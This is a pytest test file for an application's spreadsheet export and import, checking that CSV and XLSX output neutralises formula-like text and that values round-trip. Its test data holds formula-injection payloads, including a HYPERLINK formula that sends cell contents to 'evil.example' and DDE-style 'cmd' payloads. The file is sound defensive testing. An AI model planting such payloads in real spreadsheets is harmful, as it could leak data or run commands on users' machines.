"""Formula-safe spreadsheets: no exported cell is run as a formula, and every value comes back on import."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import zipfile

import openpyxl
import pytest

from mue.applications.models import Application
from mue.core.models import Workspace
from mue.core.registry import registry
from mue.core.spreadsheet import safe_csv_value, unquote_csv_value, write_xlsx_rows
from mue.interchange.exporter import export_items
from mue.interchange.files import import_file, template_file
from mue.interchange.sheets import sheet_bytes

DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-12",  # text that looks like a negative number: text, so neutralised in CSV
]
HARMLESS = ["Portail Famille", "l'école", "'quoted'", "a=b", "mail@example.org", "", "1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_that_looks_like_a_formula_gets_a_quote(text):
    assert safe_csv_value(text) == "'" + text
    assert unquote_csv_value(safe_csv_value(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_other_text_is_unchanged(text):
    assert safe_csv_value(text) == text
    assert unquote_csv_value(text) == text


@pytest.mark.parametrize("value", [-12, -0.5, decimal.Decimal("-3.25"), 0, 7, dt.date(2026, 1, 1), None, True])
def test_csv_numbers_dates_and_empty_stay_typed(value):
    """A number is not text: -12 is written -12 (a spreadsheet reads it as the number, as meant)."""
    assert safe_csv_value(value) is value


def test_csv_file_written_and_read_back():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_csv_value(v) for v in [*DANGEROUS, -12]])
    cells = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert all(cell.startswith("'") for cell in cells[:-1]), cells
    assert cells[-1] == "-12"
    assert [unquote_csv_value(c) for c in cells] == [*DANGEROUS, "-12"]


def _reload(book: openpyxl.Workbook, **kwargs) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer, **kwargs)


def test_xlsx_text_is_a_string_cell_with_its_exact_value():
    book = openpyxl.Workbook()
    write_xlsx_rows(book.active, [["name", "value"], *[[text, -12] for text in DANGEROUS + HARMLESS]])
    for data_only in (False, True):
        sheet = _reload(book, data_only=data_only).active
        for row, text in enumerate(DANGEROUS + HARMLESS, start=2):
            cell = sheet.cell(row=row, column=1)
            if text == "":
                assert cell.value is None
                continue
            assert cell.data_type == "s", (text, cell.data_type)
            # Not prefixed: the string type is enough. An XML parser may read a carriage return as a line
            # feed (the standard library's does; lxml, which python-docx brings, keeps it).
            assert cell.value in (text, text.replace("\r", "\n"))
            number = sheet.cell(row=row, column=2)
            assert (number.data_type, number.value) == ("n", -12)


def test_xlsx_file_holds_no_formula():
    book = openpyxl.Workbook()
    write_xlsx_rows(book.active, [[text] for text in DANGEROUS])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 'quotePrefix="1"' in zipfile.ZipFile(buffer).read("xl/styles.xml").decode()  # Excel keeps it text


def test_xlsx_typed_values_stay_typed():
    book = openpyxl.Workbook()
    write_xlsx_rows(book.active, [[-12, 3.5, decimal.Decimal("-1.25"), dt.date(2026, 3, 1), True, None]])
    cells = _reload(book).active[1]
    assert [c.data_type for c in cells[:5]] == ["n", "n", "n", "d", "b"]
    assert cells[0].value == -12 and cells[3].value.date() == dt.date(2026, 3, 1)


def test_xlsx_rows_follow_what_the_sheet_has():
    book = openpyxl.Workbook()
    book.active.append(["header"])
    write_xlsx_rows(book.active, [["=first"], ["=second"]])
    assert [c.value for c in book.active["A"]] == ["header", "=first", "=second"]


@pytest.fixture
def risky(workspace):
    for slug, name, description in [
        ("hyperlink", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)"),
        ("dash", "-2+3+cmd", "+33 1 23 45 67 89"),
        ("plain", "Portail Famille", "-"),
    ]:
        Application.objects.create(workspace=workspace, slug=slug, name=name, description=description, seats=12,
                                   kind="saas")
    return workspace


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_list_export_imports_back_unchanged(risky, tmp_path, fmt):
    """The export of a list page (mue.interchange.sheets) neutralises formulas; the import undoes it."""
    otype = registry["applications"]
    data = sheet_bytes(otype, export_items(otype, Application.objects.filter(workspace=risky).order_by("slug")), fmt)
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert "'=HYPERLINK" in text and "'-2+3+cmd" in text and "'@SUM" in text and "'+33" in text
        assert ",12," in text and "'12" not in text  # a number is left alone
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        headers = [c.value for c in sheet[1]]
        seats = sheet.cell(row=2, column=headers.index("seats") + 1)
        assert (seats.data_type, seats.value) == ("n", 12)
    other = Workspace.objects.create(slug="other", name="Other")
    path = tmp_path / f"applications.{fmt}"
    path.write_bytes(data)
    import_file(path, workspace=other.slug)

    def values(ws):
        return sorted(Application.objects.filter(workspace=ws).values_list("slug", "name", "description", "seats"))
    before, after = values(risky), values(other)
    # '-' in a sheet means "clear the value": an exported "-" description reads back as empty.
    assert [row for row in after if row[0] != "plain"] == [row for row in before if row[0] != "plain"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_templates_hold_no_formula(fmt):
    for otype in registry:
        data = template_file(otype, fmt)
        if fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(data))
            assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
        else:
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in data.decode("utf-8-sig").split(","))
